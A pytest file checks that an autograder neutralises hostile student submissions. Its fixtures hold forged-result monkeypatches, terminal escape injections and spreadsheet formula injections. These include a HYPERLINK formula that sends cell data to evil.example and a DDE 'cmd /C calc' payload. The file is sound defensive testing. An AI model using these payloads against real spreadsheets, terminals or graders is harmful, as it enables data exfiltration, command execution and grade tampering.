"""A class graded against a reference where some files lie about themselves or answer what was
not asked (`check DIR --reference`): each hostile file loses the criterion it attacked, with a
sentence that says why, and the honest file's row is exactly what it is alone; nothing a file
sent reaches the teacher's terminal, CSV or JSON as it was sent.

The files run without the sandbox (``--no-sandbox``): what is tested is the referee, which
never runs their code, and a file's code is free to rewrite its own process's answers either way.
"""
from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from playground.grading import inert
from tests.cli.test_grade_reference import RIGHT, SOFTPLUS
from tests.repo import REPO

pytestmark = pytest.mark.slow  # three runs of the grader: a minute on two shared cores

# Each hostile file is the right answer, and code that rewrites what its process sends.
FORGE_EVALUATED = '''
import types
import playground.engine.submission.serve as _serve
from playground import protocol as _protocol

def _forged(request_id, results, output=""):
    if len(results) == 1:  # gradcheck's first call through the proxy: the consistency criterion
        results = {forged}
    return _protocol.Evaluated(request_id=request_id, results=results, output=output)

_serve.protocol = types.SimpleNamespace(**{{**vars(_protocol), "Evaluated": _forged}})
'''
FORGE_LOADED = '''
import playground.engine.submission.serve as _serve
_real = _serve._loaded

def _forged(*args):
    loaded = _real(*args)
{changes}
    return loaded

_serve._loaded = _forged
'''
FORMULA = '=HYPERLINK("https://evil.example/steal?g="&B2&C2, "click")'
HOSTILE = {
    "b_none_outputs.py": FORGE_EVALUATED.format(
        forged="[_protocol.EvaluationResult(values=[None] * 2_000_000)]") + RIGHT,
    "c_huge_output.py": FORGE_EVALUATED.format(
        forged="[_protocol.EvaluationResult(values=[__import__('numpy').zeros(4_000_000)])]") + RIGHT,
    "d_wrong_gradients.py": '''
import numpy
import playground.engine.submission.serve as _serve
_real = _serve.evaluate

def _forged(apply, call, filename):
    result = _real(apply, call, filename)
    if call.kind == "backward":  # every backward, compared or gradcheck's: a gradient of another shape
        result.values = [numpy.ones((7, 7))] + list(result.values[1:])
    return result

_serve.evaluate = _forged
''' + RIGHT,
    "e_formulas.py": FORGE_LOADED.format(changes=f'''
    loaded.subject = {FORMULA!r}
    loaded.matched_by = "@SUM(1+1)*cmd|' /C calc'!A0"
    loaded.functions = ["-2+3", "\\x1b[31mred\\x1b[0m", "名前"]
    loaded.output = "\\x1b[2J\\x1b[Hprinted\\r\\n"''') + RIGHT,
    "f_huge_name.py": FORGE_LOADED.format(changes='''
    loaded.subject = "S" * 49_000_000''') + RIGHT,
    "g_ansi_error.py": 'raise ValueError("\\x1b[2K\\r\\x1b[1Ag_ansi_error.py      5/5  \\x1b]0;pwned\\x07")\n',
    "h_\x1b]0;pwned\x07named.py": RIGHT,  # students name their files too
}
SCORES = {"a_right.py": 5.0, "b_none_outputs.py": 4.0, "c_huge_output.py": 4.0, "d_wrong_gradients.py": 2.0,
          "e_formulas.py": 5.0, "f_huge_name.py": 0.0, "g_ansi_error.py": 0.0, "h_\x1b]0;pwned\x07named.py": 5.0}
SHOWN = sorted(inert.line(name) for name in SCORES)  # the names as a terminal or a CSV shows them
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def grade(folder: Path, reference: Path, *options: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "playground", "check", str(folder), "--reference", str(reference),
                           "--no-sandbox", "--jobs", "2", "--timeout", "30", *options],
                          cwd=REPO, capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class graded twice (a table and a CSV; JSON rows), and the honest file alone."""
    root = tmp_path_factory.mktemp("hostile")
    reference = root / "solution.py"
    reference.write_text(SOFTPLUS.format(name="Softplus", forward="torch.nn.functional.softplus(x)",
                                         derivative="torch.sigmoid(x)"))
    alone, students = root / "alone", root / "class"
    alone.mkdir()
    students.mkdir()
    (alone / "a_right.py").write_text(RIGHT)
    for name, text in {"a_right.py": RIGHT, **HOSTILE}.items():
        (students / name).write_text(text)
    table = grade(students, reference, "--csv", str(root / "grades.csv"))
    rows = grade(students, reference, "--json")
    honest = grade(alone, reference, "--json")
    return {"table": table, "csv": (root / "grades.csv").read_text(encoding="utf-8"),
            "rows": {Path(row["file"]).name: row for row in map(json.loads, rows.stdout.splitlines())},
            "alone": json.loads(honest.stdout), "stderr": rows.stderr}


def test_each_hostile_file_loses_what_it_attacked_and_the_honest_row_is_as_alone(graded):
    rows = graded["rows"]
    assert {name: row["score"] for name, row in rows.items()} == SCORES, graded["stderr"]
    honest = {key: value for key, value in rows["a_right.py"].items() if key not in ("file", "seconds")}
    assert honest == {key: value for key, value in graded["alone"].items() if key not in ("file", "seconds")}
    messages = {name: {test["name"]: test["message"] for test in row["tests"]} for name, row in rows.items()}
    assert "a list of 2000000 where" in messages["b_none_outputs.py"]["consistency"]
    assert "output 0 has shape (4000000,) where (" in messages["c_huge_output.py"]["consistency"]
    assert "gradient 0 has shape (7, 7) where" in messages["d_wrong_gradients.py"]["backward"]
    assert messages["d_wrong_gradients.py"]["forward"].startswith("forward: matches")
    assert "a string of 49000" in messages["f_huge_name.py"]["forward"]
    for name in ("b_none_outputs.py", "c_huge_output.py", "d_wrong_gradients.py"):
        assert rows[name]["verdict"] == "differs" and "no answer" in messages[name]["consistency"]


def test_no_row_carries_a_control_character_or_more_than_a_few_kilobytes(graded):
    for name, row in graded["rows"].items():
        text = json.dumps(row, ensure_ascii=False)
        assert len(text) < 20_000, (name, len(text))
        assert not CONTROL.search(json.dumps(row, ensure_ascii=False).replace("\\n", "")), name
    formulas = graded["rows"]["e_formulas.py"]
    assert (formulas["subject"], formulas["functions"]) == (FORMULA, ["-2+3", "red", "名前"])
    assert formulas["output"] == "printed\n"
    error = graded["rows"]["g_ansi_error.py"]["errors"][0]
    assert error["message"] == "g_ansi_error.py 5/5"


def test_the_terminal_table_shows_no_escape_and_no_forged_row(graded):
    table = graded["table"].stdout
    assert "\x1b" not in table and "\r" not in table and not CONTROL.search(table.replace("\n", ""))
    lines = table.splitlines()
    assert [Path(line.split()[0]).name for line in lines[:-1]] == SHOWN  # a line per file, no other
    shown = {Path(line.split()[0]).name: line for line in lines[:-1]}
    assert re.search(r"\s0/5\s", shown["g_ansi_error.py"]) and re.search(r"\s5/5\s", shown["h_named.py"])


def test_no_csv_cell_is_a_formula_and_every_text_is_one_line(graded):
    records = list(csv.DictReader(graded["csv"].splitlines()))
    assert [record["file"].rsplit("/", 1)[-1] for record in records] == SHOWN
    by_file = {record["file"].rsplit("/", 1)[-1]: record for record in records}
    assert by_file["e_formulas.py"]["subject"] == "'" + FORMULA
    assert by_file["e_formulas.py"]["matched_by"].startswith("'@SUM")
    for record in records:
        for column, cell in record.items():
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), (column, cell)
            assert not CONTROL.search(cell) and "\n" not in cell, (column, cell)
